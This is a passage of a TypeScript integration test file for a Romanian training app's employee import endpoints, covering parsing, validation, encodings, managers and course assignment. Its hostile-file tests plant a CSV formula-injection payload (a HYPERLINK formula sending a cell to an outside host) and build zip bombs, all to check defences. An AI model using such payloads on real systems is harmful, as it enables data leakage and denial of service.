import { randomUUID } from 'node:crypto';
import { importTemplateCsv, MAX_IMPORT_ROWS, missingSheetData, texts } from '@ssm/shared';
import { toUsernameKey } from '@ssm/shared/usernames';
import { parse } from 'csv-parse/sync';
import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import writeExcelFile from 'write-excel-file/node';
import {
  getUserById,
  listAllUsersOfCompany,
  listUsersOfCompany,
  type UserRecord,
} from '../../src/accounts/data/users';
import { sendImportInvitations } from '../../src/people/domain/invitations';
import { getTrainingStatus } from '../../src/training-status/data/training-status';
import { buildCompany, buildTenant, buildUser, tokenFor, uniqueName } from '../support/builders';
import { assignedCourseIds, buildCourse } from '../support/course-builders';
import { type ApiAnswer, useTestGateway } from '../support/gateway';
import { readMailsTo } from '../support/outbox';
import { formulaCellsOf, SEPARATORS } from '../support/spreadsheet';
import { buildZip, deflatedEntry, zerosEntry } from '../support/zip-files';

const api = useTestGateway();

type Row = {
  row: number;
  username: string;
  status: string;
  role: string;
  birth_date: string | null;
  errors: Record<string, string[]>;
};
type Preview = {
  rows: Row[];
  summary: { new: number; existing: number; invalid: number };
  encoding: string;
  header_row: number;
  unknown_columns: { column: number; header: string; choice: string | null }[];
};
type Imported = {
  created: {
    id: string;
    username: string;
    role: string;
    temporary_password: string;
    birth_date: string | null;
    email: string | null;
  }[];
  existing: string[];
  recovered: string[];
  invalid: Row[];
  credentials_csv: string;
  invitations: number;
  new_hire_courses_left_out: { course_id: string; title: string | null; reason: string; people: number }[];
  new_hire_courses_notice: string | null;
};

async function upload<T>(
  path: string,
  token: string,
  fields: {
    company?: string;
    file?: { name: string; content: string | Uint8Array };
    columns?: Record<string, string>;
    range?: { from: number; to: number };
    session?: string;
  },
): Promise<ApiAnswer<T>> {
  const form = new FormData();
  if (fields.company) form.set('company', fields.company);
  if (fields.session) form.set('import_session', fields.session);
  if (fields.range) {
    form.set('from_row', String(fields.range.from));
    form.set('to_row', String(fields.range.to));
  }
  if (fields.columns) form.set('columns', JSON.stringify(fields.columns));
  if (fields.file) form.set('file', new Blob([fields.file.content]), fields.file.name);
  const response = await fetch(api.url() + path, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}` },
    body: form,
  });
  return { status: response.status, body: (await response.json()) as T, headers: response.headers };
}

const HEADER = 'Nume utilizator;Prenume;Nume;Email;Data nașterii;Funcție;Rol';

function csvOf(lines: string[]): { name: string; content: string } {
  return { name: 'angajati.csv', content: `\uFEFF${[HEADER, ...lines].join('\r\n')}\r\n` };
}

describe('POST /api/users/import/preview/', () => {
  it('says per row whether it is new, already in the company, or invalid and why, in Romanian', async () => {
    const { owner, company, employee } = await buildTenant();
    const elsewhere = await buildTenant();
    const name = uniqueName('import');
    const file = csvOf([
      `${name}.a;Ana;Marin;${name}.a@example.ro;02.11.1990;Vânzătoare;`,
      `${employee.username};Ioana;Test;ioana@example.ro;;;angajat`,
      `${name}.b;Bogdan;Ene;nu-e-email;;;`,
      `${name}.c;;Enache;${name}.c@example.ro;;;`,
      `${name}.a;Ana;Dublură;dublura@example.ro;;;`,
      `${name}.d;Dan;Voicu;${name}.d@example.ro;;Șef echipă;Administrator`,
      `${elsewhere.admin.username};Alt;Om;alt@example.ro;;;`,
      `${name}.e;Elena;Rus;${name}.e@example.ro;;;director`,
      `${name}.f;Florin;Pop;${name}.f@example.ro;31/02/1990;;`,
    ]);

    const answer = await upload<Preview>('/api/users/import/preview/', await tokenFor(owner), {
      company: company.id,
      file,
    });

    expect(answer.status).toBe(200);
    expect(answer.body.summary).toEqual({ new: 2, existing: 1, invalid: 6 });
    const byRow = Object.fromEntries(answer.body.rows.map((row) => [row.row, row]));
    expect(byRow[2]).toMatchObject({ status: 'new', role: 'employee', errors: {} });
    expect(byRow[3]).toMatchObject({ status: 'existing', username: employee.username });
    expect(byRow[4]).toMatchObject({ status: 'invalid', errors: { email: [texts.api.invalidEmail] } });
    expect(byRow[5]).toMatchObject({ status: 'invalid', errors: { first_name: [texts.people.allRequired] } });
    expect(byRow[6]).toMatchObject({
      status: 'invalid',
      errors: { username: [texts.userImport.duplicateInFile] },
    });
    expect(byRow[7]).toMatchObject({ status: 'new', role: 'admin' });
    expect(byRow[8]).toMatchObject({ status: 'invalid', errors: { username: [texts.people.usernameTaken] } });
    expect(byRow[9]).toMatchObject({ status: 'invalid', errors: { role: [texts.userImport.roleInvalid] } });
    expect(byRow[10]).toMatchObject({
      status: 'invalid',
      errors: { birth_date: [texts.importFile.dateNonexistent] },
    });
    expect((await listUsersOfCompany(company.id)).users).toHaveLength(2);
  });

  it.each([
    [
      'a file without the required columns',
      { name: 'a.csv', content: 'Prenume;Nume\nAna;Marin\n' },
      texts.userImport.missingColumns('Nume utilizator'),
    ],
    [
      'a file missing a required column beside one it does not recognise',
      { name: 'a.csv', content: 'Nume utilizator;Prenumele;Nume;Email\nana;Ana;Pop;ana@example.ro\n' },
      texts.importFile.missingColumnsBesideUnknown('Prenume', 'Prenumele'),
    ],
    ['a file with a header only', { name: 'a.csv', content: `${HEADER}\n\n` }, texts.userImport.noRows],
    [
      'a legacy .xls file',
      { name: 'a.xls', content: Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0, 0]) },
      texts.userImport.unreadable,
    ],
    [
      'more rows than one import takes',
      csvOf(
        Array.from({ length: MAX_IMPORT_ROWS + 1 }, (_, index) => `u${index};A;B;u${index}@example.ro;;;`),
      ),
      texts.userImport.tooManyRows(String(MAX_IMPORT_ROWS)),
    ],
  ])('refuses %s with a Romanian 400', async (_case, file, detail) => {
    const { owner, company } = await buildTenant();

    const answer = await upload('/api/users/import/preview/', await tokenFor(owner), {
      company: company.id,
      file,
    });

    expect(answer).toMatchObject({ status: 400, body: { detail, errors: { file: [detail] } } });
  });

  it('asks for a file and for the company when they are missing', async () => {
    const { owner, company } = await buildTenant();
    const token = await tokenFor(owner);

    const noFile = await upload('/api/users/import/preview/', token, { company: company.id });
    const noCompany = await upload('/api/users/import/preview/', token, { file: csvOf([]) });

    expect(noFile).toMatchObject({ status: 400, body: { detail: texts.userImport.chooseFile } });
    expect(noCompany).toMatchObject({ status: 400, body: { detail: texts.userImport.companyRequired } });
  });

  it("answers 404 for another firm's company before looking at the file", async () => {
    const { owner } = await buildTenant();
    const other = await buildTenant();

    const answer = await upload('/api/users/import/preview/', await tokenFor(owner), {
      company: other.company.id,
      file: { name: 'a.csv', content: 'gunoi' },
    });

    expect(answer).toMatchObject({ status: 404, body: { detail: texts.companies.notFound } });
  });
});

describe('POST /api/users/import/', () => {
  it('creates the valid new rows once; a second run creates none and names the existing ones', async () => {
    const { owner, company } = await buildTenant();
    const token = await tokenFor(owner);
    const name = uniqueName('lot');
    const file = csvOf([
      `${name}.1;Ștefan;Țurcanu;${name}.1@example.ro;1985-03-04;Sudor;`,
      `${name}.2;Maria;Ilie;${name}.2@example.ro;;;admin`,
      `${name}.3;Greșit;Rând;fara-arond;;;`,
    ]);

    const first = await upload<Imported>('/api/users/import/', token, { company: company.id, file });
    const second = await upload<Imported>('/api/users/import/', token, { company: company.id, file });

    expect(first.status).toBe(201);
    expect(first.body.created.map((user) => [user.username, user.role])).toEqual([
      [`${name}.1`, 'employee'],
      [`${name}.2`, 'admin'],
    ]);
    expect(first.body.created[0]?.birth_date).toBe('1985-03-04');
    expect(first.body.invalid).toEqual([expect.objectContaining({ row: 4, status: 'invalid' })]);
    expect(first.body.existing).toEqual([]);
    expect(second.body.created).toEqual([]);
    expect(second.body.existing).toEqual([`${name}.1`, `${name}.2`]);
    expect((await listUsersOfCompany(company.id)).users).toHaveLength(4);
    // The owner's page counts the imported people at once: nobody trained yet.
    expect(await getTrainingStatus(company.id)).toMatchObject({ workers_untrained: 4, workers_on_time: 0 });
  });

  it('answers the temporary passwords once, also as a CSV for Excel, and they sign in', async () => {
    const { owner, company } = await buildTenant();
    const name = uniqueName('parole');
    const file = csvOf([`${name};Ion;Vlad;${name}@example.ro;;;`]);

    const answer = await upload<Imported>('/api/users/import/', await tokenFor(owner), {
      company: company.id,
      file,
    });
    const [created] = answer.body.created;
    const login = await api.post('/api/token/', { username: name, password: created?.temporary_password });

    expect(login.status).toBe(200);
    expect(
      answer.body.credentials_csv.startsWith('\uFEFFNume utilizator;Prenume;Nume;Email;Parolă temporară\r\n'),
    ).toBe(true);
    expect(answer.body.credentials_csv).toContain(
      `${name};Ion;Vlad;${name}@example.ro;${created?.temporary_password}`,
    );
    expect(await getUserById(created?.id ?? '')).toMatchObject({
      company_id: company.id,
      firm_id: company.firm_id,
      // Deleting them finds their marker by it (docs/data-model.md, usernames).
      username_key: toUsernameKey(name),
    });
    // The invitation job mails it in the background (it is not the call's to wait for).
    expect(answer.body.invitations).toBe(1);
    const [invitation] = await readMailsTo(`${name}@example.ro`);
    expect(invitation).toContain(`Numele tău de utilizator este: ${name}`);
  });

  it('imports an XLSX with English headers and real date cells', async () => {
    const { owner, company } = await buildTenant();
    const name = uniqueName('xlsx');
    const content = await writeExcelFile([
      ['username', 'first_name', 'last_name', 'email', 'hire_date', 'role'],
      [
        name,
        'Radu',
        'Sima',
        `${name}@example.ro`,
        { value: new Date(Date.UTC(2023, 8, 1)), type: Date, format: 'dd.mm.yyyy' },
        'employee',
      ],
    ]).toBuffer();

    const answer = await upload<Imported>('/api/users/import/', await tokenFor(owner), {
      company: company.id,
      file: { name: 'angajati.xlsx', content },
    });

    expect(answer.status).toBe(201);
    expect(answer.body.created).toEqual([
      expect.objectContaining({ username: name, hire_date: '2023-09-01' }),
    ]);
  });

  it('reads the place of birth, the workplace and the qualification under their Romanian headers', async () => {
    const { owner, company } = await buildTenant();
    const name = uniqueName('fisa');
    const file = {
      name: 'angajati.csv',
      content: `\uFEFFNume utilizator;Prenume;Nume;Email;Locul nașterii;Locul de muncă;Calificarea\r\n${name};Ștefan;Țurcanu;${name}@example.ro;Târgu Mureș;Atelierul de întreținere;Lăcătuș mecanic\r\n`,
    };

    const answer = await upload<Imported>('/api/users/import/', await tokenFor(owner), {
      company: company.id,
      file,
    });

    expect(answer.status).toBe(201);
    expect(await getUserById(answer.body.created[0]?.id ?? '')).toMatchObject({
      birth_place: 'Târgu Mureș',
      workplace: 'Atelierul de întreținere',
      qualification: 'Lăcătuș mecanic',
    });
  });

  it('takes its own template whole: every column read, the person created with every field the fișă prints', async () => {
    const { owner, company } = await buildTenant();
    const name = uniqueName('model');
    const managerName = uniqueName('sef');
    const template = importTemplateCsv()
      .replaceAll('ion.popescu', name)
      .replaceAll('maria.ionescu', managerName);

    const preview = await upload<Preview>('/api/users/import/preview/', await tokenFor(owner), {
      company: company.id,
      file: { name: 'model-import-angajati.csv', content: template },
    });
    const answer = await upload<Imported>('/api/users/import/', await tokenFor(owner), {
      company: company.id,
      file: { name: 'model-import-angajati.csv', content: template },
    });

    expect(preview.status).toBe(200);
    expect(preview.body.unknown_columns).toEqual([]);
    expect(preview.body.summary).toEqual({ new: 2, existing: 0, invalid: 0 });
    expect(answer.status, JSON.stringify(answer.body)).toBe(201);
    const byName = new Map(answer.body.created.map((person) => [person.username, person.id]));
    const created = await getUserById(byName.get(name) ?? '');
    const manager = await getUserById(byName.get(managerName) ?? '');
    expect(manager).toMatchObject({ is_workplace_manager: true, staff_category: 'tehnico_administrativ' });
    expect(created).toMatchObject({
      birth_date: '1988-05-17',
      hire_date: '2024-02-01',
      staff_category: 'muncitor',
      manager_id: manager?.id,
      is_workplace_manager: false,
    });
    expect(missingSheetData(created as NonNullable<typeof created>)).toEqual([]);
  });

  it("answers 404 for another firm's company and creates no one", async () => {
    const { owner } = await buildTenant();
    const other = await buildTenant();
    const name = uniqueName('strain');

    const answer = await upload('/api/users/import/', await tokenFor(owner), {
      company: other.company.id,
      file: csvOf([`${name};A;B;${name}@example.ro;;;`]),
    });

    expect(answer.status).toBe(404);
    expect((await listUsersOfCompany(other.company.id)).users).toHaveLength(2);
  });

  it('gives every created worker the introductory and workplace courses the company names', async () => {
    const { owner, company } = await buildTenant();
    const introductive = await buildCourse(owner, { subcategory: 'introductive' });
    const workplace = await buildCourse(owner, { category: 'PSI-SU', subcategory: 'loc_munca' });
    const none = { introductive: null, loc_munca: null, periodica: null };
    const token = await tokenFor(owner);
    const settings = await api.request('PUT', `/api/companies/${company.id}/training-settings/`, {
      body: {
        warning_days: 30,
        shorter_interval_months: null,
        reenrolment: {
          enabled: false,
          lead_days: 30,
          courses: {
            SSM: { ...none, introductive: introductive.id },
            'PSI-SU': { ...none, loc_munca: workplace.id },
          },
        },
      },
      token,
    });
    expect(settings.status).toBe(200);
    const name = uniqueName('angajare');
    const file = csvOf([
      `${name}.1;Ion;Vlad;${name}.1@example.ro;;;`,
      `${name}.2;Ana;Pop;${name}.2@example.ro;;;`,
    ]);

    const answer = await upload<Imported>('/api/users/import/', token, { company: company.id, file });

    expect(answer.status).toBe(201);
    expect(answer.body.created).toHaveLength(2);
    for (const created of answer.body.created) {
      expect((await assignedCourseIds(created.id)).sort()).toEqual([introductive.id, workplace.id].sort());
    }
    expect(answer.body).toMatchObject({ new_hire_courses_left_out: [], new_hire_courses_notice: null });
  });

  it('imports every worker without the named courses deleted since or without a quiz, gives them the others, and tells the owner once', async () => {
    const { owner, firm } = await buildTenant();
    const introductive = await buildCourse(owner, { subcategory: 'introductive' });
    const withoutQuiz = await buildCourse(owner, { subcategory: 'loc_munca', withQuiz: false });
    const deletedSince = await buildCourse(owner, { category: 'PSI-SU', subcategory: 'introductive' });
    const none = { introductive: null, loc_munca: null, periodica: null };
    // Named before courses without a quiz were refused: the settings endpoint no longer takes it.
    const company = await buildCompany(firm.id, {
      training_reenrolment: {
        enabled: false,
        lead_days: 30,
        courses: {
          SSM: { ...none, introductive: introductive.id, loc_munca: withoutQuiz.id },
          'PSI-SU': { ...none, introductive: deletedSince.id },
        },
      },
    });
    const token = await tokenFor(owner);
    expect((await api.del(`/api/courses/${deletedSince.id}/`, token)).status).toBe(200);
    const name = uniqueName('fara-test');
    const file = csvOf([
      `${name}.1;Ion;Vlad;${name}.1@example.ro;;;`,
      `${name}.2;Ana;Pop;${name}.2@example.ro;;;`,
    ]);

    const answer = await upload<Imported>('/api/users/import/', token, { company: company.id, file });

    expect(answer.status).toBe(201);
    expect(answer.body.created).toHaveLength(2);
    for (const created of answer.body.created) {
      expect(await assignedCourseIds(created.id)).toEqual([introductive.id]);
    }
    expect(answer.body.new_hire_courses_left_out).toEqual([
      {
        course_id: withoutQuiz.id,
        category: 'SSM',
        subcategory: 'loc_munca',
        title: withoutQuiz.title,
        reason: 'no_quiz',
        people: 2,
      },
      {
        course_id: deletedSince.id,
        category: 'PSI-SU',
        subcategory: 'introductive',
        title: null,
        reason: 'deleted',
        people: 2,
      },
    ]);
    expect(answer.body.new_hire_courses_notice).toBe(
      `Persoanele importate au fost create fără aceste cursuri pentru angajații noi, numite în setările de instruire ale companiei: Instruire la locul de muncă SSM – cursul „${withoutQuiz.title}” nu are chestionar (2 persoane nu l-au primit); Instruire introductiv-generală PSI-SU – cursul ales a fost șters (2 persoane nu l-au primit). Alege alt curs în setări sau adaugă chestionarul care lipsește, apoi atribuie cursul persoanelor importate din pagina cursului.`,
    );
  });
});

/** The peak resident memory of this process so far, in MiB (the kernel's own high-water mark). */
function peakMemoryMiB(): number {
  return process.resourceUsage().maxRSS / 1024;
}

/** Windows-1250 bytes of a text, for the letters a Romanian file holds (ș ț exist only with the cedilla). */
function toWindows1250(text: string): Uint8Array {
  const codes: Record<string, number> = {
    ă: 0xe3,
    â: 0xe2,
    î: 0xee,
    ș: 0xba,
    ş: 0xba,
    ț: 0xfe,
    ţ: 0xfe,
    Ă: 0xc3,
    Â: 0xc2,
    Î: 0xce,
    Ș: 0xaa,
    Ş: 0xaa,
    Ț: 0xde,
    Ţ: 0xde,
  };
  return Uint8Array.from([...text].map((letter) => codes[letter] ?? letter.charCodeAt(0) & 0x7f));
}

function toUtf16(text: string, order: 'le' | 'be'): Uint8Array {
  const bytes = Buffer.from(`\uFEFF${text}`, 'utf16le');
  return order === 'le' ? bytes : bytes.swap16();
}

describe("the import's direct managers (docs/domain.md, signers per phase)", () => {
  const MANAGER_HEADER =
    'Nume utilizator;Prenume;Nume;Rol;Conducătorul locului de muncă;Conducător al locului de muncă (da/nu)';
  const fileOf = (lines: string[]) => ({
    name: 'angajati.csv',
    content: `\uFEFF${[MANAGER_HEADER, ...lines].join('\r\n')}\r\n`,
  });

  it('finds the manager in the company or the file by username, e-mail or full name, and refuses the others in Romanian', async () => {
    const { owner, company, admin, firm } = await buildTenant();
    const token = await tokenFor(owner);
    const placement = { role: 'employee', firmId: firm.id, companyId: company.id } as const;
    const marked = await buildUser(placement, {
      first_name: 'Dorina',
      last_name: 'Marcu',
      email: `${uniqueName('dorina')}@example.ro`,
      is_workplace_manager: true,
    });
    await buildUser(placement, { first_name: 'Vasile', last_name: 'Nemarcat' });
    const byAdmin = uniqueName('admin');
    const byEmail = uniqueName('email');
    const byFileRow = uniqueName('rand');
    const fileChief = uniqueName('sef');
    const unknown = uniqueName('necunoscut');
    const notManager = uniqueName('nemarcat');
    const badMark = uniqueName('marca');
    const self = uniqueName('eu');
    const file = fileOf([
      `${byAdmin};Ana;Pop;angajat;${admin.username};`,
      `${byEmail};Bogdan;Pop;angajat;${marked.email?.toUpperCase()};nu`,
      `${byFileRow};Carmen;Pop;angajat;Șerban Teodor;`,
      `${fileChief};Teodor;Șerban;angajat;;da`,
      `${unknown};Dan;Pop;angajat;cineva.inexistent;`,
      `${notManager};Elena;Pop;angajat;Nemarcat Vasile;`,
      `${badMark};Florin;Pop;angajat;;poate`,
      `${self};Gelu;Pop;angajat;${self};da`,
    ]);

    const preview = await upload<Preview>('/api/users/import/preview/', token, { company: company.id, file });
    const answer = await upload<Imported>('/api/users/import/', token, { company: company.id, file });

    expect(preview.status).toBe(200);
    const errorsOf = (username: string) => preview.body.rows.find((row) => row.username === username)?.errors;
    expect(errorsOf(unknown)).toEqual({ manager: [texts.userImport.managerUnknown('cineva.inexistent')] });
    expect(errorsOf(notManager)).toEqual({
      manager: [texts.userImport.managerCannotSign('Nemarcat Vasile')],
    });
    expect(errorsOf(badMark)).toEqual({
      is_workplace_manager: [texts.userImport.workplaceManagerMarkInvalid],
    });
    expect(errorsOf(self)).toEqual({ manager: [texts.people.managerIsSelf] });
    expect(preview.body.summary).toEqual({ new: 4, existing: 0, invalid: 4 });
    expect(answer.status, JSON.stringify(answer.body)).toBe(201);
    const people = new Map(
      (await listAllUsersOfCompany(company.id)).map((person) => [person.username, person]),
    );
    expect(people.get(byAdmin)?.manager_id).toBe(admin.id);
    expect(people.get(byEmail)?.manager_id).toBe(marked.id);
    expect(people.get(fileChief)?.is_workplace_manager).toBe(true);
    expect(people.get(byFileRow)?.manager_id).toBe(people.get(fileChief)?.id);
    for (const refused of [unknown, notManager, badMark, self]) expect(people.has(refused)).toBe(false);
  });

  it('refuses a manager of the file imported in a later batch, and takes the row once the manager exists', async () => {
    const { owner, company } = await buildTenant();
    const token = await tokenFor(owner);
    const worker = uniqueName('lucrator');
    const chief = uniqueName('sef');
    const file = fileOf([`${worker};Ion;Rus;angajat;${chief};`, `${chief};Ilie;Rus;angajat;;da`]);

    const first = await upload<Imported>('/api/users/import/', token, {
      company: company.id,
      file,
      range: { from: 2, to: 2 },
    });
    const second = await upload<Imported>('/api/users/import/', token, {
      company: company.id,
      file,
      range: { from: 3, to: 3 },
    });
    const again = await upload<Imported>('/api/users/import/', token, { company: company.id, file });

    expect(first.body.invalid[0]?.errors).toEqual({ manager: [texts.userImport.managerInLaterBatch(chief)] });
    expect(second.body.created.map((person) => person.username)).toEqual([chief]);
    expect(again.body.created.map((person) => person.username)).toEqual([worker]);
    const people = await listAllUsersOfCompany(company.id);
    const chiefId = people.find((person) => person.username === chief)?.id;
    expect(people.find((person) => person.username === worker)?.manager_id).toBe(chiefId);
  });
});

describe('what the import does with hostile or careless files', () => {
  it.each([
    ['utf-8', (text: string) => new TextEncoder().encode(text)],
    ['utf-8-bom', (text: string) => new TextEncoder().encode(`\uFEFF${text}`)],
    ['utf-16le', (text: string) => toUtf16(text, 'le')],
    ['utf-16be', (text: string) => toUtf16(text, 'be')],
    ['windows-1250', toWindows1250],
  ])('reads a %s file, says so, and keeps its birth dates and diacritics', async (encoding, encode) => {
    const { owner, company } = await buildTenant();
    const name = uniqueName('codare');
    const text = `${HEADER}\r\n${name};Ştefan;Ţărănuş;${name}@example.ro;02.11.1990;Sudor;\r\n`;

    const preview = await upload<Preview>('/api/users/import/preview/', await tokenFor(owner), {
      company: company.id,
      file: { name: 'angajati.csv', content: encode(text) },
    });
    const imported = await upload<Imported>('/api/users/import/', await tokenFor(owner), {
      company: company.id,
      file: { name: 'angajati.csv', content: encode(text) },
    });

    expect(preview.body).toMatchObject({ encoding, unknown_columns: [], summary: { new: 1, invalid: 0 } });
    expect(imported.body.created).toEqual([
      expect.objectContaining({ username: name, birth_date: '1990-11-02' }),
    ]);
    const user = await getUserById(imported.body.created[0]?.id ?? '');
    // The cedilla forms the file (or Windows-1250) had are stored with the comma below.
    expect([user?.first_name, user?.last_name, user?.job_title]).toEqual(['Ștefan', 'Țărănuș', 'Sudor']);
  });

  it('flags names whose diacritics were lost before the file reached us', async () => {
    const { owner, company } = await buildTenant();
    const name = uniqueName('pierdut');

    const answer = await upload<Preview>('/api/users/import/preview/', await tokenFor(owner), {
      company: company.id,
      file: csvOf([
        `${name}.a;?tefan;Pop;${name}.a@example.ro;;;`,
        `${name}.b;Ana;Mure\uFFFDan;${name}.b@example.ro;;;`,
        `${name}.c;ÈšÄƒranu;Ion;${name}.c@example.ro;;;`,
      ]),
    });

    expect(answer.body.rows.map((row) => row.errors)).toEqual([
      { first_name: [texts.importFile.lostDiacritics] },
      { last_name: [texts.importFile.lostDiacritics] },
      { first_name: [texts.importFile.lostDiacritics] },
    ]);
  });

  it('lists a column it does not recognise and imports only once it is read as a field or ignored', async () => {
    const { owner, company } = await buildTenant();
    const token = await tokenFor(owner);
    const name = uniqueName('coloane');
    const file = {
      name: 'angajati.csv',
      content: `Nume utilizator;Prenume;Nume;Email;Post ocupat;Observații\r\n${name};Ana;Pop;${name}@example.ro;Sudor;alergică\r\n`,
    };

    const preview = await upload<Preview>('/api/users/import/preview/', token, { company: company.id, file });
    const refused = await upload('/api/users/import/', token, { company: company.id, file });
    const twice = await upload('/api/users/import/', token, {
      company: company.id,
      file,
      columns: { 'Post ocupat': 'first_name', Observații: 'ignore' },
    });
    const usersBefore = (await listUsersOfCompany(company.id)).users.length;
    const chosen = await upload<Imported>('/api/users/import/', token, {
      company: company.id,
      file,
      columns: { 'Post ocupat': 'job_title', Observații: 'ignore' },
    });

    expect(preview.body.unknown_columns).toEqual([
      { column: 5, header: 'Post ocupat', choice: null },
      { column: 6, header: 'Observații', choice: null },
    ]);
    const unresolved = texts.importFile.unknownColumnsUnresolved('Post ocupat, Observații');
    expect(refused).toMatchObject({
      status: 400,
      body: { detail: unresolved, errors: { columns: [unresolved] } },
    });
    expect(twice).toMatchObject({
      status: 400,
      body: { detail: texts.importFile.fieldFromTwoColumns(texts.people.firstName) },
    });
    expect(usersBefore).toBe(2);
    expect(chosen.status).toBe(201);
    expect(chosen.body.created).toEqual([expect.objectContaining({ username: name, job_title: 'Sudor' })]);
  });

  it('refuses a column choice that is not JSON or names no field', async () => {
    const { owner, company } = await buildTenant();
    const token = await tokenFor(owner);
    const form = new FormData();
    form.set('company', company.id);
    form.set('file', new Blob([csvOf([]).content]), 'a.csv');
    form.set('columns', '{nu e json');
    const notJson = await fetch(`${api.url()}/api/users/import/preview/`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}` },
      body: form,
    });
    const noField = await upload('/api/users/import/preview/', token, {
      company: company.id,
      file: csvOf([]),
      columns: { Observații: 'password_hash' },
    });

    expect(notJson.status).toBe(400);
    expect(await notJson.json()).toMatchObject({ detail: texts.importFile.columnsInvalid });
    expect(noField).toMatchObject({ status: 400, body: { detail: texts.importFile.columnsInvalid } });
  });

  it('writes a passwords file whose cells a spreadsheet opens as text, not formulas', async () => {
    const { owner, company } = await buildTenant();
    const name = uniqueName('formula');
    // No `?` in it: a name holding one is refused as having lost its diacritics.
    const planted = '=HYPERLINK("http://x.example/"&A1,"Click")';

    const answer = await upload<Imported>('/api/users/import/', await tokenFor(owner), {
      company: company.id,
      file: csvOf([`@${name};${planted};-2+3;${name}@example.ro;;;`]),
    });

    const [, row]: string[][] = parse(answer.body.credentials_csv, { bom: true, delimiter: ';' });
    expect(row?.slice(0, 3)).toEqual([`'@${name}`, `'${planted}`, "'-2+3"]);
    // The names themselves are stored as written: only the exported cell is made inert.
    expect(answer.body.created[0]).toMatchObject({ username: `@${name}`, first_name: planted });
  });

  it('writes a passwords file that holds no formula cell whichever separator a spreadsheet splits it on', async () => {
    const { owner, company } = await buildTenant();
    const name = uniqueName('separat');

    const answer = await upload<Imported>('/api/users/import/', await tokenFor(owner), {
      company: company.id,
      file: csvOf([`${name};"Pop,=1+1";"Ion;+2";${name}@example.ro;;;`]),
    });

    expect(answer.status).toBe(201);
    for (const separator of Object.values(SEPARATORS)) {
      expect(await formulaCellsOf(answer.body.credentials_csv, separator), JSON.stringify(separator)).toEqual(
        [],
      );
    }
    expect(answer.body.created[0]).toMatchObject({ first_name: 'Pop,=1+1', last_name: 'Ion;+2' });
  });

  it.each([
    [
      'declares its true size',
      async () =>
        buildZip([
          deflatedEntry('[Content_Types].xml', '<Types/>'),
          await zerosEntry('xl/worksheets/sheet1.xml', 300),
        ]),
    ],
    [
      'declares a small size',
      async () => buildZip([{ ...(await zerosEntry('xl/worksheets/sheet1.xml', 300)), declaredSize: 1024 }]),
    ],
  ])('refuses an XLSX that unpacks to 300 MiB (and %s) without unpacking it', async (_case, build) => {
    const { owner, company } = await buildTenant();
    const bomb = await build();
    const peakBefore = peakMemoryMiB();

    const answer = await upload('/api/users/import/preview/', await tokenFor(owner), {
      company: company.id,
      file: { name: 'angajati.xlsx', content: bomb },
    });

    expect(bomb.length).toBeLessThan(400 * 1024);
    expect(answer).toMatchObject({
      status: 400,
      body: {
        detail: texts.importFile.unpacksTooLarge,
        errors: { file: [texts.importFile.unpacksTooLarge] },
      },
    });
    expect(peakMemoryMiB() - peakBefore).toBeLessThan(64);
    expect((await listUsersOfCompany(company.id)).users).toHaveLength(2);
  });
});

/** An .ods of one sheet whose content.xml body is `rows` (table:table-row elements). */
async function odsOf(rows: string): Promise<Uint8Array> {
  const zip = new JSZip();
  zip.file('mimetype', 'application/vnd.oasis.opendocument.spreadsheet', { compression: 'STORE' });
  zip.file(
    'content.xml',
    `<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><office:body><office:spreadsheet><table:table table:name="Angajați">${rows}</table:table><table:table table:name="Altă foaie"><table:table-row><table:table-cell office:value-type="string"><text:p>nu se citește</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>`,
  );
  return zip.generateAsync({ type: 'uint8array', compression: 'DEFLATE' });
}

const odsText = (text: string) =>
  `<table:table-cell office:value-type="string"><text:p>${text}</text:p></table:table-cell>`;

describe('what the import reads besides a plain list', () => {
  it('reads the first sheet of an ODS: text, date cells, repeated cells, and no comments', async () => {
    const { owner, company } = await buildTenant();
    const name = uniqueName('ods');
    const content = await odsOf(
      [
        `<table:table-row>${['Nume utilizator', 'Prenume', 'Nume', 'Email', 'Data nașterii', 'Funcție'].map(odsText).join('')}<table:table-cell table:number-columns-repeated="16378"/></table:table-row>`,
        `<table:table-row>${odsText(name)}${odsText('Ștefan')}<table:table-cell office:value-type="string"><text:p>Țurcanu<text:s text:c="2"/>Ionescu</text:p><office:annotation><text:p>notă ascunsă</text:p></office:annotation></table:table-cell>${odsText(`${name}@example.ro`)}<table:table-cell office:value-type="date" office:date-value="1985-04-03T00:00:00"><text:p>03.04.85</text:p></table:table-cell><table:table-cell table:number-columns-repeated="2" office:value-type="string"><text:p>Sudor</text:p></table:table-cell></table:table-row>`,
        '<table:table-row table:number-rows-repeated="1048574"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>',
      ].join(''),
    );

    const preview = await upload<Preview>('/api/users/import/preview/', await tokenFor(owner), {
      company: company.id,
      file: { name: 'angajati.ods', content },
    });
    const imported = await upload<Imported>('/api/users/import/', await tokenFor(owner), {
      company: company.id,
      file: { name: 'angajati.ods', content },
      columns: { '': 'ignore' },
    });

    expect(preview.body).toMatchObject({ encoding: 'ods', header_row: 1, summary: { new: 1, invalid: 0 } });
    // The repeated "Sudor" spills into a seventh column without a header: the owner decides.
    expect(preview.body.unknown_columns).toEqual([{ column: 7, header: '', choice: null }]);
    expect(imported.status).toBe(201);
    const user = await getUserById(imported.body.created[0]?.id ?? '');
    expect(user).toMatchObject({
      first_name: 'Ștefan',
      last_name: 'Țurcanu  Ionescu',
      birth_date: '1985-04-03',
      job_title: 'Sudor',
    });
  });

  it('refuses an ODS that unpacks to 300 MiB without unpacking it', async () => {
    const { owner, company } = await buildTenant();
    const bomb = buildZip([
      deflatedEntry('mimetype', 'application/vnd.oasis.opendocument.spreadsheet'),
      await zerosEntry('content.xml', 300),
    ]);

    const answer = await upload('/api/users/import/preview/', await tokenFor(owner), {
      company: company.id,
      file: { name: 'angajati.ods', content: bomb },
    });

    expect(answer).toMatchObject({ status: 400, body: { detail: texts.importFile.unpacksTooLarge } });
  });

  it('finds the header under title rows and numbers the rows as the spreadsheet shows them', async () => {
